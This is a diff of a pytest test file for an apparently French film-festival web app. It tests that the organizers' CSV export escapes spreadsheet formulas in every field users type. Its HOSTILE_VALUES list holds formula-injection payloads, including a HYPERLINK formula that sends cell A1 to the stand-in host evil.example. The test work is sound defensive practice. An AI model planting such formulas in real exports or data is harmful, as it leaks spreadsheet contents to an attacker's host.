@@ -468,22 +468,53 @@ def test_csv_export_follows_the_filters(organizer_client, teacher, category):
     assert [row[0] for row in csv_rows(response)[1:]] == [str(accepted.pk)]
 
 
-@pytest.mark.parametrize(
-    ("title", "exported"),
-    [
-        ('=HYPERLINK("http://evil.example")', '\'=HYPERLINK("http://evil.example")'),
-        ("+33 les bielles", "'+33 les bielles"),
-        ("-1 défaut", "'-1 défaut"),
-        ("@SUM(A1)", "'@SUM(A1)"),
-        ("Les mains = l'usine", "Les mains = l'usine"),
-    ],
-)
-def test_csv_export_guards_against_formula_injection(
-    organizer_client, teacher, category, title, exported
+HOSTILE_VALUES = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Voir")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_VALUES)
+def test_csv_export_guards_every_typed_value_against_formulas(
+    organizer_client, edition, category, hostile
 ):
-    factories.make_film(teacher=teacher, category=category, title=title)
+    """Title, category, school, town, company, teacher and trade: typed by people, never run."""
+    category.name = hostile
+    category.save()
+    school = factories.make_school(name=hostile, town=hostile)
+    teacher = factories.make_teacher(school, first_name=hostile, last_name="Girard")
+    film = factories.make_film(
+        teacher=teacher,
+        category=category,
+        title=hostile,
+        company=factories.make_company(name=hostile),
+    )
+    film.trades.add(factories.make_trade(name=hostile))
     response = organizer_client.get(reverse("festival:organizer_films_csv"))
-    assert csv_rows(response)[1][1] == exported
+    header, line = csv_rows(response)
+    row = dict(zip(header, line, strict=True))
+    typed = {
+        "titre": hostile,
+        "catégorie": hostile,
+        "établissement": hostile,
+        "commune": hostile,
+        "entreprise": hostile,
+        "enseignant": teacher.get_full_name(),
+        "métiers": hostile,
+    }
+    assert {column: row[column] for column in typed} == {
+        column: "'" + value for column, value in typed.items()
+    }
+    assert row["id"] == str(film.pk)
+
+
+def test_csv_export_leaves_harmless_text_alone(organizer_client, teacher, category):
+    factories.make_film(teacher=teacher, category=category, title="Les mains = l'usine")
+    response = organizer_client.get(reverse("festival:organizer_films_csv"))
+    assert csv_rows(response)[1][1] == "Les mains = l'usine"
 
 
 def test_csv_export_query_count_does_not_grow_with_films(
